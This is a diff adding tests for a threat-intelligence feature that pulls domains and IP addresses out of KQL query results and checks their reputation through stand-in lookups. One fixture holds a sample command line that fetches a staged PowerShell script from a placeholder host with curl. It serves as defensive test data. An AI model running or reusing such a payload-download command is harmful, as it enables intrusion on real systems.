@@ -163,3 +163,44 @@ describe('the reputation of listed observables', () => {
     });
   });
 });
+
+describe('the reputation of what the steps of a query find', () => {
+  const found = {
+    kind: 'kql',
+    kql: 'print CommandLine = "curl http://cdn.example.net/stage.ps1 10.0.0.1", Computer = "ws-1"',
+  };
+  const indicators = { step: 'indicators', types: ['dns', 'ipv4'] };
+
+  it('is told beside the row that named it, and on the way', async () => {
+    const steps = [indicators, { step: 'lookup', lookUp: 'on' }];
+    const { rows, columns, frame, shown, asked } = await run({ ...found, steps }, standInLookups());
+    expect(rows).toEqual(['cdn[.]example[.]net: malicious', '10[.]0[.]0[.]1: not sent']);
+    expect(columns.value[0]).toBe('cdn.example.net');
+    expect(frame.fields.find(({ name }) => name === 'Computer')?.values).toEqual(['ws-1', 'ws-1']);
+    expect(asked).toEqual(['domains/cdn.example.net']);
+    expect(shown.map(({ name, refId }) => [name, refId])).toContainEqual([frame.name, frame.refId]);
+  });
+
+  it('is told of whole cells of a column, too, and asked for nothing before it is switched on', async () => {
+    const kql = 'print RemoteAddress = "cdn[.]example[.]net"';
+    const { rows, asked } = await run(
+      { kind: 'kql', kql, steps: [{ step: 'lookup', column: 'RemoteAddress' }] },
+      standInLookups()
+    );
+    expect([rows, asked]).toEqual([['cdn[.]example[.]net: not asked'], []]);
+  });
+
+  it('is not shown before a later step has gone through it', async () => {
+    const steps = [indicators, { step: 'lookup', lookUp: 'on' }, { step: 'indicators', column: 'value' }];
+    const query = upgradeQuery({ ...found, steps });
+    const shown: unknown[] = [];
+    const frames = await (query.ok
+      ? query.value.run({
+          ...askWorkspace(workspace, day),
+          lookups: standInLookups(),
+          show: (each) => shown.push(each),
+        })
+      : []);
+    expect([frames.map(({ name }) => name), shown]).toEqual([['indicators'], []]);
+  });
+});
